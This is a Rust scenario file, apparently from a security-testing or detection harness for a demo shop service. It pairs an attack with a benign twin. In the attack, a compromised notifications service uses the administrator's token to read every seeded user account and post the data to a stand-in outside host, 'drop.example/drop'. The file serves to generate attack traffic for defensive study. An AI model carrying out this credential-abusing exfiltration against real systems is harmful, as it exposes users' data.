//! A server that was taken over reads what it never read, with credentials that are right.

use super::{Act, SHORT, Scenario};
use crate::seed;
use crate::shopper::{Outcome, Shopper};
use serde_json::json;

/// The scenario.
pub(super) const SCENARIO: Scenario = Scenario {
    name: "exfiltration",
    owasp: "beyond",
    raises: &["lateral-movement"],
    flaws: &[],
    history: SHORT,
    requests: 20,
    rate: 2.0,
    attack: Act {
        story: "notifications reads every account with the administrator's token and sends them away",
        play: |shopper| Box::pin(exfiltrate(shopper)),
    },
    twin: Act {
        story: "the administrator has notifications send a digest of nobody",
        play: |shopper| Box::pin(send_digest(shopper)),
    },
};

async fn exfiltrate(shopper: &mut Shopper) -> Outcome {
    digest(shopper, seed::users().collect()).await
}

async fn send_digest(shopper: &mut Shopper) -> Outcome {
    digest(shopper, Vec::new()).await
}

async fn digest(shopper: &mut Shopper, users: Vec<u64>) -> Outcome {
    shopper.log_in(seed::ADMIN).await?;
    let to = shopper.elsewhere("drop.example", "/drop");
    let asked = json!({"users": users, "to": to});
    for _ in 0..2 {
        shopper.post_behind("notifications", "/maintenance/digest", &asked).await?;
    }
    Ok(())
}
